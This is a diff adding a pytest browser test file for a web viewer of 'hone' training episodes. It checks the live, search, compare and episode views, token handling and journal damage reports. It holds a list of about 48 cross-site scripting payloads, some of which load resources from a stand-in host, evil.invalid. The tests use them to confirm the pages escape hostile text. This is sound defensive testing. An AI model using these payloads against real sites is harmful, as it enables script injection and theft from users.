@@ -1,0 +1,450 @@
+"""The web page in a real browser: what it shows of a server and of a journal, and that hostile texts do nothing."""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import sqlite3
+import subprocess
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import hone
+import pytest
+
+from browser import Browser, find_chromium
+from servers import RealServer
+from test_journal import FAST, WRONG
+
+CHROMIUM = find_chromium()
+pytestmark = [
+    pytest.mark.real,
+    pytest.mark.skipif(CHROMIUM is None, reason="found no Chromium; scripts/setup --browser installs it"),
+]
+
+# Each calls pwn() with its own number where a page runs it. NUMBER is replaced.
+PAYLOADS = [
+    "<script>pwn(NUMBER)</script>",
+    "<ScRiPt>pwn(NUMBER)</sCrIpT>",
+    "</script><script>pwn(NUMBER)</script>",
+    "<script src=//evil.invalid/NUMBER></script>",
+    "<img src=x onerror=pwn(NUMBER)>",
+    "<img src=x onerror='pwn(NUMBER)'",
+    '"><img src=x onerror=pwn(NUMBER)>',
+    "'><img src=x onerror=pwn(NUMBER)>",
+    "<img src=//evil.invalid/NUMBER>",
+    "<image href=x onerror=pwn(NUMBER)>",
+    "<svg onload=pwn(NUMBER)>",
+    "<svg><script>pwn(NUMBER)</script></svg>",
+    "<svg><animate onbegin=pwn(NUMBER) attributeName=x dur=1s>",
+    "<svg><a href='javascript:pwn(NUMBER)'><text y=9>click</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(NUMBER)>#x'></svg>",
+    "<math><mtext><mglyph><style></math><img src=x onerror=pwn(NUMBER)>",
+    "<body onload=pwn(NUMBER)>",
+    "<iframe srcdoc='<script>parent.pwn(NUMBER)</script>'></iframe>",
+    "<iframe src='javascript:parent.pwn(NUMBER)'></iframe>",
+    "<iframe src=//evil.invalid/NUMBER></iframe>",
+    "<object data='javascript:pwn(NUMBER)'></object>",
+    "<embed src='javascript:pwn(NUMBER)'>",
+    "<a href='javascript:pwn(NUMBER)' id=clicked>click</a>",
+    "javascript:pwn(NUMBER)",
+    "<input autofocus onfocus=pwn(NUMBER)>",
+    "<select autofocus onfocus=pwn(NUMBER)>",
+    "<details open ontoggle=pwn(NUMBER)>",
+    "<video><source onerror=pwn(NUMBER)></video>",
+    "<audio src=x onerror=pwn(NUMBER)>",
+    "<style>@import '//evil.invalid/NUMBER';</style>",
+    "<link rel=stylesheet href=//evil.invalid/NUMBER>",
+    "<meta http-equiv=refresh content='0;url=//evil.invalid/NUMBER'>",
+    "<base href=//evil.invalid/NUMBER/>",
+    "<form action=//evil.invalid/NUMBER><button>go</button></form>",
+    "<template><script>pwn(NUMBER)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=pwn(NUMBER)>'>",
+    "<!--><img src=x onerror=pwn(NUMBER)>-->",
+    "<![CDATA[<img src=x onerror=pwn(NUMBER)>]]>",
+    "&lt;img src=x onerror=pwn(NUMBER)&gt;",
+    "{{constructor.constructor('pwn(NUMBER)')()}}",
+    "${pwn(NUMBER)}",
+    "';pwn(NUMBER);//",
+    '"onmouseover=pwn(NUMBER) x="',
+    "__proto__",
+    "\u202e<img src=x onerror=pwn(NUMBER)>\u202c",
+    "\u001b]8;;//evil.invalid/NUMBER\u0007link\u001b]8;;\u0007",
+    "\ufeff<script>pwn(NUMBER)</script>\u200b",
+    "style='background:url(//evil.invalid/NUMBER)'",
+]
+HOSTILE = [payload.replace("NUMBER", str(number)) for number, payload in enumerate(PAYLOADS)]
+WATCH = "window.pwned = []; window.pwn = (number) => window.pwned.push(number);"
+
+
+class Site:
+    """A server with a web page, and the episodes that its journal has."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder, self.journal = folder, folder / "run.db"
+        quick = "evaluate.measure={pairs_min: 3, pairs_max: 3, seconds_max: 0.2, round_ms: 1, singles: 1}"
+        settings = [f"journal.path={self.journal}", "environment.max_turns=100", "environment.stop_reward=null", quick]
+        sets = [word for one in settings[:2] + settings[3:] for word in ("--set", one)]
+        self.server = RealServer(folder / "serve.log", 0, "--web", "0", *sets)
+        self.url = self.server.announced["web"]
+        with hone.connect(self.server.endpoint, name="trainer-a") as client:
+            episode = client.reset("add_relu", group="first").episode
+            for code in (WRONG, WRONG.replace("x[i] * y[i]", "x[i] - y[i]"), FAST):
+                episode.step(code)
+            self.episode = episode.id
+        with hone.connect(self.server.endpoint, name=HOSTILE[4]) as client:
+            episode = client.reset("add_relu", group=HOSTILE[6]).episode
+            for payload in HOSTILE:
+                episode.step(response=payload)
+            episode.step("\n".join(f"#error {payload}" for payload in HOSTILE if payload.isprintable()))
+            self.hostile = episode.id
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    made = Site(tmp_path_factory.mktemp("site"))
+    yield made
+    made.server.stop()
+
+
+@pytest.fixture(scope="module")
+def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    assert CHROMIUM is not None
+    browser = Browser(CHROMIUM, tmp_path_factory.mktemp("chromium") / "profile")
+    browser.call("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
+    yield browser
+    browser.close()
+
+
+@pytest.fixture
+def browser(chromium: Browser) -> Browser:
+    chromium.window(1180, 900, dark=False)
+    chromium.messages.clear()
+    chromium.requests.clear()
+    chromium.dialogs = 0
+    return chromium
+
+
+def assert_harmless(browser: Browser, url: str) -> None:
+    """Nothing ran, nothing complained, and nothing was asked from elsewhere."""
+    assert browser.value("window.pwned") == []
+    assert browser.dialogs == 0
+    assert [one for one in browser.requests if not one.startswith((url, "about:"))] == []
+    assert browser.messages == []
+    odd = (
+        "script:not([src='/app.js']),iframe,object,embed,img,base,template,video,audio,style,meta[http-equiv],[onerror]"
+    )
+    assert browser.value(f"document.querySelectorAll({json.dumps(odd)}).length") == 0
+    links = (
+        "[...document.querySelectorAll('a')].map((a) => a.getAttribute('href')).filter((href) => !href.startsWith('#'))"
+    )
+    assert browser.value(links) == []
+
+
+def test_the_live_view_follows_the_steps(site: Site, browser: Browser) -> None:
+    browser.open(site.url, "Live")
+    assert "serving" in browser.text("main")
+    tile = "[...document.querySelectorAll('.tile')].find((one) => one.innerText.startsWith('Steps done'))"
+    done = f"Number({tile}?.children[1].innerText)"
+    before = int(browser.value(done))
+    assert before == 4 + len(HOSTILE)
+    with hone.connect(site.server.endpoint, name="trainer-live") as client:
+        client.reset("add_relu").episode.step("int x = ;")
+        browser.wait(f"{done} === {before + 1}")
+    browser.wait("document.querySelector('main').innerText.includes('trainer-live')")
+    browser.wait("[...document.querySelectorAll('.legend li')].some((li) => li.innerText.includes('build failed'))")
+    browser.wait("live.samples.length >= 2 && rate(300) > 0")
+    assert browser.value("document.title") == "Live · hone"
+    assert_harmless(browser, site.url)
+
+
+def test_search_and_links_find_episodes(site: Site, browser: Browser) -> None:
+    browser.open(site.url + "/#/tasks", "Tasks")
+    assert "tasks/add_relu" in browser.text("main")
+    browser.value("document.querySelector('main td a').click()")
+    browser.wait("document.documentElement.dataset.ready === 'Episodes'")
+    assert browser.value("location.hash") == "#/episodes?task=tasks%2Fadd_relu"
+    browser.open(site.url + "/#/episodes", "Episodes")
+    names = "[...document.querySelectorAll('td:first-child a')].map((a) => a.innerText)"
+    assert {site.episode, site.hostile} <= set(browser.value(names))
+    browser.value("document.dispatchEvent(new KeyboardEvent('keydown', {key: '/', bubbles: true, cancelable: true}))")
+    assert browser.value("document.activeElement.id") == "search"
+    browser.value("document.activeElement.value = 'TRAINER-A', document.querySelector('form').requestSubmit()")
+    browser.wait(f"JSON.stringify({names}) === {json.dumps(json.dumps([site.episode]))}")
+    assert browser.value("document.activeElement.id") == "search", "one can go on typing"
+    shared = browser.value("location.href")
+    browser.open(shared, "Episodes")
+    assert browser.value(names) == [site.episode]
+    browser.go("#/episodes?outcome=cheated", "Episodes")
+    browser.wait("document.querySelector('main').innerText.includes('No episode matches.')")
+    browser.go("#/episodes?outcome=wrong", "Episodes")
+    browser.wait(f"JSON.stringify({names}) === {json.dumps(json.dumps([site.episode]))}")
+    assert_harmless(browser, site.url)
+
+
+def test_two_clients_are_compared_by_task(site: Site, browser: Browser) -> None:
+    browser.open(f"{site.url}/#/compare", "Compare")
+    assert_harmless(browser, site.url)
+    browser.value(
+        "(() => { const one = document.getElementById('a_client'); one.value = 'trainer-a';"
+        " one.dispatchEvent(new Event('change')); })()"
+    )
+    browser.wait("location.hash.includes('a_client=trainer-a') && document.documentElement.dataset.ready === 'Compare'")
+    shared = browser.value(
+        f"link('compare', {{a_client: 'trainer-a', b_client: {json.dumps(HOSTILE[4])}, by: 'success'}})"
+    )
+    browser.open(site.url + "/" + shared, "Compare")
+    cells = "[...document.querySelectorAll('tbody td')].map((td) => td.textContent)"
+    task, difference, _, episodes, attempts, _, correct, *_ = browser.value(cells)
+    assert task == "tasks/add_relu"
+    assert difference == "\u221233.3 points", "one of three attempts is correct, and none of the hostile ones"
+    assert (episodes, attempts, correct) == ("11", f"3{len(HOSTILE) + 1}", "33 %0 %")
+    assert browser.value("document.getElementById('b_client').value") == HOSTILE[4]
+    assert "B is higher in 0 and lower in 1" in browser.text("main")
+    assert_harmless(browser, site.url)
+    unknown = {"a_client": HOSTILE[6], "b_reward": HOSTILE[1], "by": "__proto__"}
+    hostile = f"link('compare', {json.dumps(unknown)})"
+    browser.open(f"{site.url}/{browser.value(hostile)}", "Compare")
+    assert "No task in either set." in browser.text("main")
+    assert_harmless(browser, site.url)
+
+
+def test_an_episode_has_its_prompt_differences_intervals_and_feedback(site: Site, browser: Browser) -> None:
+    browser.open(f"{site.url}/#/episodes/{site.episode}?turn=2", f"Episode {site.episode}")
+    assert browser.value("document.activeElement.dataset.turn") == "2", "the link's turn is chosen"
+    lines = "[...document.querySelectorAll('#turn-2 .ln.%s')].map((line) => line.innerText.trim())"
+    (removed,), (added,) = browser.value(lines % "del"), browser.value(lines % "add")
+    assert removed.endswith("const float v = x[i] * y[i];")
+    assert added.endswith("const float v = x[i] - y[i];")
+    assert "unchanged line" in browser.text("#turn-2 .code")
+    browser.value("document.querySelector('#turn-2 .fold').click()")
+    assert "#include <cstdint>" in browser.text("#turn-2 .code")
+    browser.value("document.querySelectorAll('#turn-2 .bar-of-code button')[1].click()")
+    assert browser.value("document.querySelectorAll('#turn-2 .ln.del').length") == 0
+    text = browser.text("main")
+    assert "wrong" in browser.text("#turn-1 h2")
+    assert "correct" in browser.text("#turn-3 h2")
+    assert "Your kernel compiled and ran, but its results are wrong" in text
+    assert "return to date" in text
+    assert "trainer-a" in text
+    assert "first" in text
+    drawn = browser.value("document.querySelector('#turn-3 .speed svg').getAttribute('aria-label')")
+    assert drawn.startswith("speedup ")
+    assert "95 % interval" in drawn
+    low, value, high = browser.value(
+        "(() => { const [line, dot] = ['.range', '.dot'].map((one) => document.querySelector(`#turn-3 .speed ${one}`));"
+        "return [line.getAttribute('x1'), dot.getAttribute('cx'), line.getAttribute('x2')].map(Number); })()"
+    )
+    assert low <= value <= high
+    assert browser.value("document.querySelectorAll('.course .dot').length") == 1
+    browser.value("document.querySelector('summary').click()")
+    assert "Add two vectors and clamp the sum at zero" in browser.text("main")
+    browser.value("document.querySelector('#turn-2').focus()")
+    browser.value("document.activeElement.dispatchEvent(new KeyboardEvent('keydown', {key: 'j', bubbles: true}))")
+    assert browser.value("document.activeElement.dataset.turn") == "3"
+    assert_harmless(browser, site.url)
+
+
+def test_a_diff_turns_one_text_into_the_other(site: Site, browser: Browser) -> None:
+    browser.open(site.url, "Live")
+    seed = random.randrange(1 << 30)
+    made = random.Random(seed)
+    pairs: list[tuple[list[str], list[str]]] = [
+        ([], []),
+        (["a"], []),
+        ([], ["a"]),
+        (list("ab") * 700, list("cd") * 700),
+    ]
+    for _ in range(300):
+        a = [made.choice("abcd") for _ in range(made.randrange(30))]
+        b = [made.choice("abcd") for _ in range(made.randrange(30))] if made.random() < 0.3 else list(a)
+        for _ in range(made.randrange(4)):
+            b[made.randrange(len(b) + 1) :][:1] = [made.choice("abx")]
+            b.insert(made.randrange(len(b) + 1), made.choice("abx"))
+            del b[made.randrange(len(b))]
+        pairs.append((a, b))
+    diffs = browser.value(f"{json.dumps(pairs)}.map(([a, b]) => diffLines(a, b))")
+    for (a, b), rows in zip(pairs, diffs, strict=False):
+        assert [text for sign, text in rows if sign != "+"] == a, seed
+        assert [text for sign, text in rows if sign != "-"] == b, seed
+    (kept,) = (
+        [sign for sign, _ in browser.value(f"diffLines({json.dumps(list('abcabba'))}, {json.dumps(list('cbabac'))})")],
+    )
+    assert kept.count("+") + kept.count("-") == 5, "the shortest"
+
+
+def test_hostile_texts_are_shown_and_do_nothing(site: Site, browser: Browser) -> None:
+    assert len(HOSTILE) >= 30
+    for view, ready in (("live", "Live"), ("tasks", "Tasks"), ("compare", "Compare"), ("episodes", "Episodes")):
+        browser.open(f"{site.url}/#/{view}", ready)
+        assert_harmless(browser, site.url)
+    assert HOSTILE[4] in browser.text("main")  # a client's name
+    browser.open(f"{site.url}/#/episodes/{site.hostile}", f"Episode {site.hostile}")
+    browser.value("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+    browser.value("document.querySelectorAll('.fold').forEach((one) => one.click())")
+    shown = browser.text("main")
+    lines = "[...turn.querySelectorAll('.ln:not(.del) span')].map((line) => line.innerText)"
+    turns = browser.value(f"[...document.querySelectorAll('.turn')].map((turn) => {lines}.join('\\n'))")
+    assert len(turns) == len(HOSTILE) + 1
+    for number, payload in enumerate(HOSTILE):
+        wanted = browser.value(f"visible({json.dumps(payload)})")
+        assert wanted == payload or "⟨U+" in wanted
+        assert turns[number] == wanted
+        if payload.isprintable():
+            assert f"#error {payload}" in turns[-1]
+    compiler = [line for line in shown.splitlines() if "error: #error" in line]
+    assert len(compiler) >= 30, "the compiler's output has them, too"
+    assert "⟨U+202E⟩" in shown
+    assert "\u202e" not in shown
+    assert "⟨U+001B⟩" in shown
+    assert "\x1b" not in shown
+    browser.value("document.querySelectorAll('.turn a, .turn button, .turn summary').forEach((one) => one.click())")
+    assert_harmless(browser, site.url)
+
+
+def test_hostile_links_do_nothing(site: Site, browser: Browser) -> None:
+    browser.open(f"{site.url}/#/episodes", "Episodes")
+    gone = "delete document.documentElement.dataset.ready"
+    for payload in HOSTILE:
+        text = json.dumps(payload)
+        for target in (
+            f"link('episodes', {{search: {text}, task: {text}, client: {text}}})",
+            f"link('episodes', {{after: {text}, group: {text}}})",
+            f"'#/episodes/' + {text}",
+        ):
+            browser.value(f"{gone}, location.hash = {target}, 0")
+            browser.wait("document.documentElement.dataset.ready")
+    assert browser.value("window.pwned") == []
+    assert browser.dialogs == 0
+    assert [one for one in browser.requests if not one.startswith((site.url, "about:"))] == []
+
+
+def test_the_watch_notices_what_runs(browser: Browser) -> None:
+    """Without hone's headers and with innerHTML, payloads do run and are counted."""
+    browser.call("Page.navigate", url="about:blank")
+    browser.wait("Array.isArray(window.pwned)")
+    browser.value(f"document.body.innerHTML = {json.dumps(''.join(HOSTILE[4:13]))}, 0")
+    browser.wait("window.pwned.length >= 2")
+    browser.wait("document.images.length > 0")
+
+
+def test_the_headers_forbid_what_the_script_never_does(site: Site, browser: Browser) -> None:
+    browser.open(site.url, "Live")
+    attempts = {
+        "document.body.innerHTML = '<p>x</p>'": "TypeError",
+        "new DOMParser().parseFromString('<p>x</p>', 'text/html')": "TypeError",
+        "window.eval('1')": "EvalError",
+        "new Function('return 1')": "EvalError",
+    }
+    for attempt, error in attempts.items():
+        # From a timer, because the protocol's own evaluation is exempt from the policy.
+        caught = f"try {{ {attempt}; window.result = 'ran'; }} catch (error) {{ window.result = error.name; }}"
+        browser.value(f"window.result = '', setTimeout(() => {{ {caught} }}), 0")
+        assert browser.wait("window.result") == error, attempt
+    browser.value(
+        "(() => { const s = document.createElement('img'); s.src = '//evil.invalid/x'; document.body.append(s); })()"
+    )
+    browser.wait("document.images[0].complete")
+    assert any("Content Security Policy" in one for one in browser.messages), browser.messages
+
+
+@pytest.mark.parametrize(("width", "dark"), [(320, True), (390, False), (1180, True)])
+def test_a_window_of_any_width_has_no_horizontal_overflow(site: Site, browser: Browser, width: int, dark: bool) -> None:
+    browser.window(width, 800, dark)
+    episodes = [(f"episodes/{one}", f"Episode {one}") for one in (site.episode, site.hostile)]
+    for view, ready in [
+        ("live", "Live"),
+        ("tasks", "Tasks"),
+        ("compare", "Compare"),
+        ("episodes", "Episodes"),
+        *episodes,
+    ]:
+        browser.open(f"{site.url}/#/{view}", ready)
+        browser.value("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
+        assert browser.value("document.documentElement.scrollWidth") <= width, view
+        back, front = browser.value(
+            "((css) => [css.backgroundColor, css.color].map((colour) => colour.match(/\\d+/g).slice(0, 3)"
+            ".reduce((a, b) => a + Number(b), 0)))(getComputedStyle(document.body))"
+        )
+        assert (back < front) == dark, "light on dark, or dark on light"
+
+
+@contextmanager
+def viewing(*arguments: object) -> Iterator[str]:
+    """The address of `hone view`."""
+    command = [os.environ["HONE_BINARY"], "view", *map(str, arguments), "--port", "0", "--json"]
+    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
+    assert process.stdout is not None
+    try:
+        yield json.loads(process.stdout.readline())["url"]
+    finally:
+        process.terminate()
+        process.communicate(timeout=60)
+
+
+def test_a_token_is_asked_for_once_and_leaves_no_trace(site: Site, browser: Browser, tmp_path: Path) -> None:
+    token = tmp_path / "token"
+    token.write_text("a-token-of-this-test\n")
+    token.chmod(0o600)
+    with viewing(site.journal, "--token-file", token) as url:
+        browser.call("Page.navigate", url=f"{url}/#/episodes/{site.episode}")
+        for given, then in (("wrong-token-of-a-test", "not the token"), ("a-token-of-this-test", "trainer-a")):
+            browser.wait("document.querySelector('input[type=password]') !== null")
+            browser.value(f"document.querySelector('input[type=password]').value = '{given}'")
+            browser.value("document.querySelector('form').requestSubmit()")
+            browser.wait(f"document.querySelector('main').innerText.includes('{then}')")
+        assert browser.value("document.cookie") == "", "no script reads it"
+        assert "token-of" not in browser.value("location.href + JSON.stringify({...localStorage, ...sessionStorage})")
+        browser.open(f"{url}/#/tasks", "Tasks")  # another load needs no token
+        browser.call("Network.clearBrowserCookies")
+        browser.open(f"{url}/?token=a-token-of-this-test#/episodes", "Episodes")
+        assert browser.value("location.href") == f"{url}/#/episodes"
+
+
+def test_a_journal_without_a_server_is_shown_and_its_damage_named(site: Site, browser: Browser, tmp_path: Path) -> None:
+    copy = tmp_path / "copy.db"
+    subprocess.run(
+        [os.environ["HONE_BINARY"], "journal", "backup", "--journal", site.journal, "--to", copy], check=True
+    )
+    database = sqlite3.connect(copy)
+    with database:
+        number = int(site.episode, 16)
+        number -= (number >> 63) << 64
+        assert database.execute("UPDATE turns SET reward = 77 WHERE episode = ? AND turn = 2", [number]).rowcount == 1
+    database.close()
+    with viewing(copy) as url:
+        browser.open(url, "Tasks")
+        assert browser.value("[...document.querySelectorAll('nav a')].map((a) => a.innerText)") == [
+            "Tasks",
+            "Episodes",
+            "Compare",
+        ]
+        browser.open(f"{url}/#/episodes/{site.hostile}", f"Episode {site.hostile}")
+        assert_harmless(browser, url)
+        browser.open(f"{url}/#/episodes/{site.episode}", "error")
+        notice = browser.text("#notice")
+        assert f"it is damaged (episode {site.episode}, turn 2 is not what was stored)" in notice
+        browser.open(f"{url}/#/episodes/0123456789abcdef", "error")
+        assert "the journal has no episode 0123456789abcdef" in browser.text("#notice")
+        browser.go("#/episodes", "Episodes")
+        assert browser.value("document.getElementById('notice').hidden")
+
+
+def test_pages_of_a_list_are_linked(site: Site, browser: Browser) -> None:
+    with hone.connect(site.server.endpoint, name="many") as client:
+        for _ in range(60):
+            client.reset("add_relu", group="pages")
+    rows: list[Any] = []
+    browser.open(f"{site.url}/#/episodes?group=pages", "Episodes")
+    names = "[...document.querySelectorAll('td:first-child a')].map((a) => a.innerText)"
+    rows += browser.value(names)
+    assert len(rows) == 50
+    browser.value("delete document.documentElement.dataset.ready, document.querySelector('.pager a').click()")
+    browser.wait("document.documentElement.dataset.ready === 'Episodes'")
+    rows += browser.value(names)
+    assert len(set(rows)) == 60
+    browser.value("document.querySelector('.pager a').click()")
+    browser.wait(f"JSON.stringify({names}) === {json.dumps(json.dumps(rows[:50], separators=(',', ':')))}")
